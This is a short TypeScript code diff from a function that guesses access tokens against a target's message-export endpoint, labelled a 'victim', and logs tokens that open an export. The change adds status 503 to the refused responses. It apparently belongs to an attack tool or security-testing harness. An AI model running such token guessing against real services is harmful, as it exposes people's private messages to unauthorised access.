@@ -123,7 +123,7 @@ async function guessExports({ url, victim }: Target): Promise<readonly string[]>
   const findings = tokens.map(async (token) => {
     const answer = await fetch(`${url}/exports/messages.csv?token=${encodeURIComponent(token)}`);
     const text = await answer.text();
-    const isRefused = [400, 403, 410].includes(answer.status);
+    const isRefused = [400, 403, 410, 503].includes(answer.status);
     return [
       ...(isRefused ? [] : [`${token.slice(0, 60)} opened an export.`]),
       ...findInsides({ text, status: answer.status }),
